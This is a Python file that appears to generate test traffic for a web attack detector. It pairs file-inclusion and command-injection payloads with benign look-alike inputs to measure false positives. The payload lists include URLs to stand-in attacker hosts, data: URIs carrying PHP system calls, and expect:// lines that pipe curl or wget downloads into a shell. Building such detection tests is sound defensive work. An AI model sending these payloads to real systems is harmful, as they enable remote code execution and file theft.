    ("phpbb_root_path=http://evil.example/x.txt?", "form", "rs-param-name"),
    ("lang=http://evil.example/en.txt", "param-name", "rs-raw-body"),
    ("document=https://evil.example/d.txt", "form", "rs-param-name"),
    ("folder=http://evil.example/f/", "param-name", "rs-raw-body"),
    ("pg=http://evil.example/p.txt", "form", "rs-param-name"),
    ("style=http://evil.example/s.txt", "param-name", "rs-raw-body"),
    ("module=http://evil.example/m.txt", "form", "rs-param-name"),
    ("conf=http://evil.example/c.txt", "param-name", "rs-raw-body"),
    ("dir=http://evil.example/", "form", "rs-param-name"),
    ("load=https://evil.example/l.txt", "param-name", "rs-raw-body"),
    ("site=http://evil.example/s.txt", "form", "rs-param-name"),
    ("show=http://evil.example/s2.txt", "param-name", "rs-raw-body"),
    ("view=http://evil.example/v.txt", "form", "rs-param-name"),
    ("content=http://evil.example/c2.txt", "param-name", "rs-raw-body"),
    ("root_path=http://evil.example/x?", "form", "rs-param-name"),
    ("base_path=http://203.0.113.5/b.txt?", "param-name", "rs-raw-body"),
    ("absolute_path=ftp://evil.example/a.txt", "form", "rs-param-name"),
    ("includedir=http://evil.example/i/", "param-name", "rs-raw-body"),
    ("page=http://evil.example/shell.txt?&action=view", "form", "rs-param-name"),
]
# "Possible RFI Attack: Off-Domain Reference/Link" -- any URL whose host is not ours, fetched by an include or
# a remote-template loader (shorteners, paste sites, object storage, tunnels, IDN, userinfo and dot tricks)
RFI_OFFDOMAIN: list[Entry] = [
    "https://evil.example/payload.php",
    "http://cdn.evil.example/js/inc.txt",
    "https://bit.ly/3xYzAbC",
    "http://evil.example/wso.txt",
    "https://raw.githubusercontent.com/attacker/shells/master/b374k.php",
    "https://pastebin.com/raw/q9Lm3TzA",
    "//evil.example/shell.txt",
    "http:\\\\evil.example\\x.txt",
    "https://trusted.example.com@evil.example/x.txt",
    "http://evil.example./inc.txt",
    "http://xn--80ak6aa92e.com/s.txt",
    "https://files.evil.example/remote/config.inc",
    "http://evil.example/shell.php.txt",
    "https://evil.example/r57.gif",
    "http://evil.example:81/inc",
    "https://4f2a-198-51-100-23.ngrok-free.app/s.txt",
    "https://evil.example/index.html#",
    "http://EVIL.example/S.TXT",
    "https://s3.amazonaws.com/evil-bucket/shell.txt",
    "https://drive.evil.example/uc?id=1&export=download",
    "http%3A%2F%2Fevil.example%2Fx.txt",
    "https:/evil.example/a.txt",
    "http:///evil.example/b.txt",
    "https://evil.example/%2e%2e/c.txt",
    "http://attacker.test/k.inc",
    "https://evil.example/assets/shell.txt;.css",
    "https://a.evil.example/b/c/d/e.txt",
    "https://evil-cdn.example/shell.png",
    "http://evil.example/inc.txt\x00",
    ("https://evil.example/x.txt", "param-name-url", "rs-param-name-url"),
    ("https%3A%2F%2Fevil.example%2Fpayload.txt", *RAW_Q),
]
# "Possible Remote File Inclusion (RFI) Attack" -- other schemes PHP, Windows and Java will load from afar: ftp,
# ftps, smb / UNC, WebDAV UNC, data:, expect:, jar:, compress.zlib over http, ssh2.sftp
RFI_PROTOCOLS: list[Entry] = [
    "ftp://evil.example/shell.txt",
    "ftps://evil.example/inc.php",
    "smb://evil.example/share/shell.php",
    "\\\\evil.example\\share\\inc.php",
    "\\\\198.51.100.23@SSL\\DavWWWRoot\\x.php",
    "data:text/plain;base64," + _b64("<?php phpinfo(); ?>"),
    "data://text/plain,<?php passthru($_GET['c']);?>",
    "data:;base64," + _b64("<?php system($_GET['x']); ?>"),
    "expect://cat /etc/passwd",
    "expect://curl evil.example|sh",
    "ftp://anonymous@evil.example:2121/pub/x.txt",
    "file://evil.example/share/x.php",
    "jar:http://evil.example/x.jar!/shell.jsp",
    "php://filter/resource=http://evil.example/x.txt",
    "compress.zlib://http://evil.example/x.txt.gz",
    "ssh2.sftp://user:pass@evil.example:22/x.php",
    "FTP://EVIL.EXAMPLE/X.TXT",
    "\\\\evil.example@80\\x\\y.php",
    "smb://198.51.100.23/public/inc.txt",
    "ftp://user:pass@198.51.100.9/inc.txt\x00",
    "expect://wget http://evil.example/x -O /tmp/x",
    "\\\\evil.example\\c$\\inc.php",
    "file:////evil.example/share/x.php",
    "ftp://evil.example/x.txt?",
    "//evil.example/share/x.php",
    "\\\\evil.example\\DavWWWRoot\\s.php",
    "data:application/x-httpd-php;base64," + _b64("<?php echo `id`; ?>"),
    "dav://evil.example/webdav/x.php",
    "ftp://evil.example/%2e%2e/inc.txt",
    "smb://evil.example/IPC$/x",
    ("ftp%3A%2F%2Fevil.example%2Fx.txt", *RAW_Q),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-expression-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_PATHS),
    ("rce", "reverse-shells", REVERSE_SHELLS),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADERS),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_IN_COMMANDS),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-paths", ABSOLUTE_PATHS),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LOG_POISONING),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", RFI_IP),
    ("rfi", "url-with-trailing-question-mark", RFI_QMARK),
    ("rfi", "include-parameter-with-url", RFI_PARAMS),
    ("rfi", "off-domain-reference", RFI_OFFDOMAIN),
    ("rfi", "protocols", RFI_PROTOCOLS),
]
# `name=url` payloads sent unquoted where they name the place
RAW_KV_SUBS = {"include-parameter-with-url"}

# ----------------------------------------------------------------------------------------------------------------
# Placements (per category; backup and config file names mostly as URL paths)
CYCLES: dict[str, tuple[list[str], list[str]]] = {
    "rce": (["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
             "param-name", "xml", "multipart-field", "path"],
            ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
             "rs-header:X-Test-Header", "rs-cookie", "rs-param-name"]),
    "lfi": (["query", "form", "json", "cookie", "xml", "multipart-field", "path"],
            ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-cookie", "rs-raw-body", "rs-header:X-Test-Header"]),
    "rfi": (["query", "form", "json", "cookie", "xml", "multipart-field"],
            ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-cookie"]),
}
SUB_CYCLES = {"restricted-file-extensions": (["path-raw", "query", "path-raw", "json", "path-raw", "form"],
                                             ["rs-path-raw", "rs-query", "rs-path-raw", "rs-form"])}
NAMES = {
    "rce": ["host", "ip", "q", "cmd", "filename", "name", "target", "domain", "callback"],
    "lfi": ["file", "page", "path", "template", "download", "doc", "lang", "img"],
    "rfi": ["page", "file", "template", "include", "path", "url", "src", "lang"],
}
RS_RAW_PREFIXES = ["/", "/static/", "/files/", "/download/", "/cgi-bin/"]
UPLOAD_BODY = "name,email\nAnn,ann@example.org\n"


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    kv_safe = "=&[]._-:/'*$!(),;{}~@?"
    upload = UPLOAD_BODY
    one_line = ("cookie", "rs-cookie", "rs-raw-body")
    short = ("path", "path-raw", "rs-path-raw")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, CYCLES[category])

    def name(self, category: str, sub: str, k: int) -> str:
        return NAMES[category][k % len(NAMES[category])]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and sub in RAW_KV_SUBS

    def xml_body(self, value: str, root: str, name: str) -> str:
        return super().xml_body(value.replace("\x00", ""), root, name)   # XML cannot carry a NUL

    def _p_query_raw(self, p: Put) -> Record:   # already in its wire form
        return _get("/api/users?" + p.name + "=" + p.v + self.tail)

    def _p_param_name_url(self, p: Put) -> Record:   # a bare URL as the whole query string (?http://...)
        return _get("/api/users?" + p.v)

    def _p_path_raw(self, p: Put) -> Record:
        return _get("/api/users/" + p.v.lstrip("/"))

    def _p_rs_query_raw(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.name + "=" + p.v)

    def _p_rs_param_name_url(self, p: Put) -> Record:
        return request("GET", p.path + "?" + p.v)

    def _p_rs_path_raw(self, p: Put) -> Record:
        return request("GET", RS_RAW_PREFIXES[p.k % len(RS_RAW_PREFIXES)] + p.v.lstrip("/"))

    def _p_rs_multipart_filename(self, p: Put) -> Record:
        return request("POST", "/upload.php", self.multipart([("file", UPLOAD_BODY, p.v)]), self.multipart_type)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    "deploy failed again, the post-install hook exited 127 - looks like /usr/bin/env can't find python3 on the "
    "new image",
    "can someone with prod access check disk usage? `df -h` on web-2 please",
    "reminder: rotate the id_rsa keys on the bastion before Friday, new ones go in 1Password",
    "I'll take the PowerShell script that syncs AD groups, it still uses Get-ADUser -Filter *",
    "the nightly backup writes db_2024-06-01.sql.gz to the S3 bucket, not to the web root anymore",
    "Windows folks: run ipconfig /all and paste the output in the ticket",
    "our Dockerfile does `RUN apt-get update && apt-get install -y curl` and then cleans /var/lib/apt/lists",
    "the .env file is gitignored, copy .env.example and fill in your own keys",
    "who owns the cron job that greps /var/log/nginx/access.log for 5xx?",
    "Shellshock was 2014, right? the auditor still asks about the bash version on the CI runners",
    "relative imports like ../../utils/date are getting out of hand, can we add path aliases?",
    "nc -zv db.internal 5432 says open, so it's not the security group",
    "PSA: don't paste tokens in this channel, use the vault link",
    "the win.ini question from the customer is about their legacy VB6 app, not us",
    "is the web.config transform still needed now that we're off IIS?",
    "the install docs say `curl -sSL https://get.example.com | bash` and security wants us to stop recommending "
    "that",
    "anyone know why `ls -la` shows the upload dir owned by root? the worker runs as www-data",
    "the backup.sql from last week is 4 GB, please don't download it over the VPN",
    "socat is installed on the jump host if you need to forward the debugger port",
    "git config --global pull.rebase true fixed my merge mess",
    "the .htaccess rewrite rules from the old PHP site need porting to nginx",
    "python -m http.server 8000 is fine for local testing only",
    "ticket 4412: a user uploaded a file named report..pdf and the download link 404s",
    "set -euo pipefail at the top of every script, please",
    "PowerShell 7 is on the build agents; Windows PowerShell 5.1 only on the old ones",
    "on macOS the hosts file is /etc/hosts too, flush the cache with dscacheutil -flushcache",
    "for the demo I'll use wget --mirror on the docs site",
    "the C:\\Program Files\\Acme path has spaces, quote it in the service config",
    "which process holds port 8080? lsof -i :8080, or netstat -ano on Windows",
    "the PHP team confirmed allow_url_include is off on every pool",
    "renamed config.ini.bak back to config.ini and the service came up",
    "the print vendor's FTP server is ftp://ftp.printshop.example, creds are in the vault",
    "the mapped drive is \\\\fileserver\\shared\\finance, ask IT if you can't see it",
    "who set the log level to DEBUG in prod? /var/log/app is 80% full",
    "the pentest report lists path traversal in the legacy file viewer as fixed, retest is scheduled",
    "use tee if you want the output on screen and in the log file",
    "echo $PATH shows /usr/local/bin twice, my .bashrc is a mess",
    "systemctl restart nginx && systemctl status nginx - all green",
    "on Windows, dir /s /b *.log finds them all",
    "pipe it through jq: curl -s localhost:8080/health | jq .",
    "the Perl script in /opt/legacy still runs every night and nobody dares touch it",
    "the reverse proxy config lives in /etc/nginx/conf.d/app.conf",
    "data: URLs in the email templates get stripped by Outlook, use hosted images",
    "the smb shares are gone after the migration, everything is in SharePoint now",
    "added a Makefile target, so it's just make test && make lint",
    "bug bounty report about a reverse shell through the image converter - triage says it's the vendor's service",
    "kubectl exec -it into the pod and cat the config, it's mounted at /etc/app/config.yaml",
    "to see the kernel version: uname -r",
    "CTF night next week, bring a laptop with Kali or a VM",
    "is the expect package still needed on the image? it was for the old telnet automation",
    "the template field in the email API only takes names like welcome_v2, not URLs",
    "chmod 600 ~/.ssh/id_ed25519 or ssh refuses the key",
    "the page=2 links in the admin list broke after the sort change",
    "we're moving the cron jobs from crontab to systemd timers this sprint",
    "the customer's proxy rewrites ../ in URLs, which broke our relative links",
    "can we stop using cmd /c in the Windows installer? PowerShell handles the quoting better",
    "whoami on the runner says gitlab-runner, so the sudoers entry isn't applied",
    "the boot.ini answer in the FAQ is from the XP days, I'll delete it",
    "for the Go service the include path is ./internal/..., see the README",
    "Invoke-WebRequest is slow on PS 5.1 unless you set $ProgressPreference = 'SilentlyContinue'",
    "bio: SRE at Acme. bash, Go, too much YAML. Opinions are my own.",
    "bio: Windows admin turned DevOps; PowerShell and Terraform; ex-helpdesk",
    "bio: security engineer - appsec reviews, CTFs on weekends, writes about path traversal bugs",
    "bio: support lead, I answer the /etc/hosts and VPN questions so you don't have to",
]
SEARCHES = [
    "bash", "curl", "powershell", "Perl", "Page", "Tee", "Cat Nguyen", "Wget", "id_rsa", "web.config",
    "win.ini", "/etc/passwd", "shellshock", "path traversal", "include", "php://filter", "ftp", "smb",
    "socat", "nc", "whoami", "cmd", "Shell", "../", "backup.sql", ".env", "reverse proxy", "data:",
    "expect", "template", "O'Neil", "Smith & Sons", "ops | infra", "a;b", "C:\\Users", "file", "path",
    "Invoke-WebRequest", "192.168.1.20", "curl -I",
]
URLS = [
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Parameter-Expansion",
    "https://github.com/acme/deploy/blob/main/scripts/install.sh",
    "https://raw.githubusercontent.com/acme/dotfiles/main/.bashrc",
    "ftp://ftp.gnu.org/gnu/bash/",
    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://docs.docker.com/engine/install/ubuntu/",
    "http://192.168.1.20:8080/",
    "https://www.kali.org/tools/socat/",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://git-scm.com/docs/git-config",
    "https://pastebin.com/raw/5bYk2TqW",
    "https://bit.ly/acme-onboarding",
    "https://example.com/docs/templates?page=2&file=intro.md",
    "https://developer.mozilla.org/en-US/docs/Web/URI/Schemes/data",
    "https://www.exploit-db.com/docs/english/44592-linux-restricted-shell-bypass-guide.pdf",
    "https://blog.example.org/2024/05/why-curl-pipe-bash-is-fine-actually/",
    "https://support.example.com/kb/1234?path=/settings/network",
]
PROSE = [
    "customer cannot open the ../reports link from the old wiki",
    "customer runs Windows Server 2019 with PowerShell 5.1, asked about TLS 1.2",
    "user says the export file is named users;final.csv and won't open",
    "refund request - bought twice by mistake & wants one back",
    "asked for the /etc/hosts workaround for the staging domain",
    "escalate: reports a shell script in the zip from our partner",
    "password reset loop on iOS, cleared cookies, still broken",
    "wants the API docs for the template parameter",
    "complains the include of their CSS file fails over http",
    "phone support: caller read out C:\\Windows\\System32 path from the error",
    "account locked after 5 attempts | unlocked manually",
    "bash completion not working in the CLI on zsh",
    "user pasted `curl -v https://api.example.com` output, 403 from the proxy",
    "needs a data export for GDPR (all files, all logs)",
    "asked whether we support FTP uploads - no, SFTP only",
    "web.config error on their IIS box, not our product",
    "name change: Tee -> Tee-Morgan after marriage",
    "VIP customer, reverse the duplicate charge",
    "follow up on the path traversal disclosure, thank the reporter",
    "wget output shows 301 then 200, looks fine",
    "duplicate account: ann.perl@example.org and ann@example.org",
    "asks about the shellshock advisory for their appliance",
    "contract renewal, legal wants the .pdf not the .docx",
    "user on Windows 7 still, can't run the installer",
    "cmd window flashes on login, likely their GPO script",
    "the backup.sql they sent us is from 2019",
    "sms code not arriving; carrier is O2",
    "invoice address: 12 Cat & Fiddle Lane",
    "locked out after enabling 2FA, has recovery codes? no",
    "asked for the .env.example file for the self-hosted edition",
]
PROFILES = [
    ("Cat Nguyen", "12 Cat & Fiddle Lane, Bristol"),
    ("Sam Perl", "Flat 3/2, 41 Hill St, Glasgow"),
    ("Linda Curl", "500 Main St #200, Austin TX"),
    ("Ravi Bash", "2nd floor; Koramangala 5th Block, Bengaluru"),
    ("Joanne Tee", "PO Box 77, Wellington"),
    ("Dennis Page", "Rua Augusta 100 - 3ºEsq, Lisboa"),
    ("Marta Shell", "Calle Mayor 5, 1ºB, Madrid"),
    ("Finn Path", "Unit 4 / 18 Harbour Rd, Sydney"),
    ("Ana Wget", "Wien, Mariahilfer Str. 9/12"),
    ("O'Brien, Pat", "Apt 7 | Building C, Dublin"),
    ("Chen Include", "88 Nanjing Rd (rear), Shanghai"),
    ("Priya Cmd", "C-12, Sector 62, Noida"),
    ("Tom Socat", "Rue de la Paix 3, Paris"),
    ("Hana Expect", "Shibuya 2-21-1, Tokyo"),
    ("Lee File", "1 Infinite Loop, Cupertino"),
]
UPLOAD_NAMES = [
    "users (1).csv", "team-list_v2.csv", "export;final.csv", "Q2 report - copy.csv", "users_old.csv",
    "mitarbeiter_ä.csv", "import & merge.csv", "contacts [2024].csv", "new hires #3.csv", "users.csv",
]
BENIGN_HEADERS = [
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1"),
    ("User-Agent", "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3996"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "Go-http-client/1.1"),
    ("User-Agent", "libwww-perl/6.76"),
    ("User-Agent", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"),
    ("Referer", "https://nvd.nist.gov/vuln/detail/CVE-2014-6271"),
    ("Referer", "https://app.example.com/admin/users?page=3&sort=name"),
    ("Referer", "https://www.google.com/search?q=powershell+invoke-webrequest+proxy"),
    ("Referer", "https://docs.example.com/files/download?file=manual.pdf"),
    ("Referer", "https://stackoverflow.com/questions/4412/how-to-pipe-curl-output-to-bash"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "2c1f6d0e-5a7b-4c3e-9f1d-8b2a6e4c0d13"),
    ("Accept-Language", "de-DE,de;q=0.9,en;q=0.7"),
    ("Cookie", "session=abc123; theme=dark; last_page=%2Fadmin%2Fusers"),
    ("Cookie", "session=abc123; lang=en; tz=America%2FNew_York"),
    ("X-Forwarded-For", "198.51.100.40, 10.0.0.5"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS, UPLOAD_BODY)


if __name__ == "__main__":
    print_records(attacks(), benign())
